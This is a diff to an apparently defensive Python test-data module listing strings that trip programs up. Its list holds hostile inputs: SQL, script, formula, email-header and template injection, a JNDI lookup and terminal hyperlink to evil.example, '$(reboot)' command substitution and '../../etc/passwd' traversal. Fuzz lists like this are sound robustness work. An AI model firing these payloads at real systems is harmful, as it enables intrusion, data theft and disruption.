@@ -1,3 +1,4 @@
+# ruff: noqa: RUF001  # letters that look like others are what this is about
 """Texts and JSON values that programs trip over; all of our own writing."""
 
 import random
@@ -19,8 +20,9 @@ FORMS = (
     "project = OPS OR 1=1", '" OR labels = "x', "=cmd|' /C calc'!A1", "+1+1", "@SUM(1)", "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "' onmouseover='alert(1)", "</p><p>", "<!--", "]]>",
     "<![CDATA[", "&#60;script&#62;", "\r\nBcc: eve@evil.example", "\nSubject: other", "\r\n\r\n<html>", "=?utf-8?q?x?=",
-    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x9b31m", "\x00", "\x08\x08",
-    "\r\n{\"level\":\"INFO\",\"message\":\"fine\"}", "\u2028{}", "\u2029", "\x85", "\x0b", "\x0c", "\u202e", "\u2066",
+    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\x9b31m", "\x00",
+    "\x08\x08",
+    '\r\n{"level":"INFO","message":"fine"}', "\u2028{}", "\u2029", "\x85", "\x0b", "\x0c", "\u202e", "\u2066",
     "\u200b", "\ufeff", "\u2060", "\u00ad", "\U000e0041", "\ud800", "\udfff", "\u0301" * 40, "ﷺ" * 20, "İ", "ß", "ﬁ",
     "\U0001f468\u200d\U0001f469\u200d\U0001f467", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ", "раурal", "${jndi:ldap://evil.example/a}",
     "{{7*7}}", "{% raw %}", "%s%n%d", "%0d%0aX: y", "$(reboot)", "`reboot`", "; DROP TABLE", "../../etc/passwd", "NaN",
